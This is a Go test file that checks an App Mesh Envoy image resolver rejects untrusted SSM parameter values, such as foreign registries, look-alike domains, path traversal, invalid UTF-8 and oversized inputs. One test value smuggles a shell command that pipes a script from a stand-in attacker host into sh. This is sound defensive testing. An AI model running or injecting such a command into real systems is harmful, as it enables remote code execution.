package appmeshenvoy_test

import (
	"context"
	"errors"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/ssm"
	ssmtypes "github.com/aws/aws-sdk-go-v2/service/ssm/types"

	"github.com/appmesh-envoy/appmesh-envoy-go/appmeshenvoy"
	"github.com/appmesh-envoy/appmesh-envoy-go/appmeshenvoy/appmeshenvoytest"
	"github.com/appmesh-envoy/appmesh-envoy-go/region"
)

// Bad input from every source the library reads: SSM parameter values (served by the
// local endpoint, so they cross the real wire protocol), env files and policy JSON.

// badValues are parameter values for region eu-west-1 that must never become an Image.
func badValues() []struct {
	name, value string
	want        error
} {
	r := region.MustLookup("eu-west-1")
	good := r.RepositoryURI() + ":" + appmeshenvoytest.DefaultTag
	host := r.RegistryHost()
	tag := ":" + appmeshenvoytest.DefaultTag
	untrusted := appmeshenvoy.ErrUntrustedImage
	return []struct {
		name, value string
		want        error
	}{
		{"empty", "", untrusted},
		{"blank", "   ", untrusted},
		// Values over the parameter limit but under the answer limit (1 MiB): larger answers
		// end as response-too-large (TestHostileEndpointOversizedAnswers).
		{"huge (256 KiB)", good + strings.Repeat("0", 1<<18-len(good)), untrusted},
		{"huge repository path (256 KiB)", host + "/" + strings.Repeat("a/", 1<<17-len(host)) + "aws-appmesh-envoy" + tag, untrusted},
		{"another account", "111122223333.dkr.ecr.eu-west-1.amazonaws.com/aws-appmesh-envoy" + tag, untrusted},
		{"another region's registry", region.MustLookup("us-east-1").RepositoryURI() + tag, untrusted},
		{"opt-in region's account", "422531588944.dkr.ecr.eu-west-1.amazonaws.com/aws-appmesh-envoy" + tag, untrusted},
		{"another repository", host + "/aws-appmesh-envoy-evil" + tag, untrusted},
		{"nested repository", host + "/mirror/aws-appmesh-envoy" + tag, untrusted},
		{"path traversal", host + "/x/../aws-appmesh-envoy" + tag, untrusted},
		{"legacy account", "111345817488.dkr.ecr.eu-west-1.amazonaws.com/aws-appmesh-envoy:v1.9.1.0-prod", appmeshenvoy.ErrLegacyAccount},
		{"legacy account, current tag", "111345817488.dkr.ecr.eu-west-1.amazonaws.com/aws-appmesh-envoy" + tag, appmeshenvoy.ErrLegacyAccount},
		{"http URL", "http://" + good, untrusted},
		{"https URL", "https://" + good, untrusted},
		{"digest only", r.RepositoryURI() + "@sha256:" + strings.Repeat("ab", 32), untrusted},
		{"no tag", r.RepositoryURI(), untrusted},
		{"tag not a version", r.RepositoryURI() + ":latest", untrusted},
		{"public gallery", region.PublicRepository + tag, untrusted},
		{"FIPS host", "840364872350.dkr.ecr-fips.eu-west-1.amazonaws.com/aws-appmesh-envoy" + tag, untrusted},
		{"dual-stack host", "840364872350.dkr-ecr.eu-west-1.on.aws/aws-appmesh-envoy" + tag, untrusted},
		{"host with port", "840364872350.dkr.ecr.eu-west-1.amazonaws.com:443/aws-appmesh-envoy" + tag, untrusted},
		{"look-alike domain", "840364872350.dkr.ecr.eu-west-1.amazonaws.com.evil.example/aws-appmesh-envoy" + tag, untrusted},
		{"newline injection", good + "\n" + region.MustLookup("us-east-1").RepositoryURI() + tag, untrusted},
		{"trailing shell", good + "; curl evil.example | sh", untrusted},
		{"replacement characters", good + "\ufffd", untrusted},
		{"JSON instead of a string", `{"image":"` + good + `"}`, untrusted},
	}
}

// TestBadParameterValuesOverTheWire serves each bad value from the local endpoint and
// checks that Latest and LatestAll return a typed error naming the region, never an
// Image, with a bounded message.
func TestBadParameterValuesOverTheWire(t *testing.T) {
	srv := appmeshenvoytest.NewServer()
	defer srv.Close()
	ctx := context.Background()
	for _, tc := range badValues() {
		t.Run(tc.name, func(t *testing.T) {
			srv.SetParameter("eu-west-1", tc.value)
			if got, ok := srv.Parameter("eu-west-1"); !ok || got != tc.value {
				t.Fatalf("the server did not take the value (%d bytes)", len(tc.value))
			}
			res := appmeshenvoy.NewResolver(srv.Config("us-west-2"))
			img, err := res.Latest(ctx, "eu-west-1")
			checkBadValueError(t, img, err, tc.want)

			results, err := res.LatestAll(ctx, []string{"eu-west-1", "eu-west-2"})
			if err != nil {
				t.Fatalf("LatestAll: %v", err)
			}
			checkBadValueError(t, results[0].Image, results[0].Err, tc.want)
			if results[1].Err != nil {
				t.Errorf("eu-west-2 failed too: %v", results[1].Err)
			}
		})
	}
}

func checkBadValueError(t *testing.T, img appmeshenvoy.Image, err error, want error) {
	t.Helper()
	if img != (appmeshenvoy.Image{}) {
		t.Errorf("got an image %q", img.String())
	}
	if !errors.Is(err, want) {
		t.Fatalf("err = %.300v, want %v", err, want)
	}
	var re *appmeshenvoy.RegionError
	var ve *appmeshenvoy.VerificationError
	if !errors.As(err, &re) || re.Region != "eu-west-1" || !errors.As(err, &ve) || ve.Region != "eu-west-1" {
		t.Errorf("err %.300v: want a *RegionError and a *VerificationError for eu-west-1", err)
	}
	msg := err.Error()
	if len(msg) > 1024 {
		t.Errorf("the error message is %d bytes: a huge value must not be copied into it", len(msg))
	}
	if !utf8.ValidString(msg) || strings.ContainsAny(msg, "\n\r\x00") {
		t.Errorf("the error message %q is not one printable line", msg)
	}
	if ve != nil && len(ve.Value) > 256 {
		t.Errorf("VerificationError.Value keeps %d bytes, want at most 256", len(ve.Value))
	}
	if !strings.Contains(msg, "do not deploy") {
		t.Errorf("error %q does not say what to do", msg)
	}
}

// TestBadParameterValuesExactBytes: JSON on the wire cannot carry invalid UTF-8 (the
// server's encoder replaces it), so the exact bytes go through a fake GetParameter
// client instead.
func TestBadParameterValuesExactBytes(t *testing.T) {
	good := region.MustLookup("eu-west-1").RepositoryURI() + ":" + appmeshenvoytest.DefaultTag
	for name, value := range map[string]string{
		"invalid UTF-8 at the end":    good + "\xff",
		"invalid UTF-8 in the host":   "840364872350.dkr.ecr.eu-west-1.amazonaws\xc3.com/aws-appmesh-envoy:" + appmeshenvoytest.DefaultTag,
		"overlong encoding of '/'":    "840364872350.dkr.ecr.eu-west-1.amazonaws.com\xc0\xafaws-appmesh-envoy:" + appmeshenvoytest.DefaultTag,
		"NUL byte":                    good + "\x00",
		"Latin-1 tag":                 region.MustLookup("eu-west-1").RepositoryURI() + ":v1.29.12.0-pr\xf6d",
		"nil value":                   "\x00nil",
		"1 MiB of invalid UTF-8":      strings.Repeat("\xfe", 1<<20),
		"valid prefix, 1 MiB garbage": good + strings.Repeat("\x80", 1<<20),
	} {
		t.Run(name, func(t *testing.T) {
			fake := &appmeshenvoytest.SSM{GetParameterFunc: func(_ context.Context, in *ssm.GetParameterInput, _ ...func(*ssm.Options)) (*ssm.GetParameterOutput, error) {
				p := &ssmtypes.Parameter{Name: in.Name, Value: aws.String(value), Type: ssmtypes.ParameterTypeString}
				if value == "\x00nil" {
					p.Value = nil
				}
				return &ssm.GetParameterOutput{Parameter: p}, nil
			}}
			res := appmeshenvoy.NewResolver(aws.Config{}, func(o *appmeshenvoy.ResolverOptions) {
				o.SSMClientForRegion = func(string) appmeshenvoy.GetParameterAPI { return fake }
			})
			img, err := res.Latest(context.Background(), "eu-west-1")
			checkBadValueError(t, img, err, appmeshenvoy.ErrUntrustedImage)
		})
	}
}
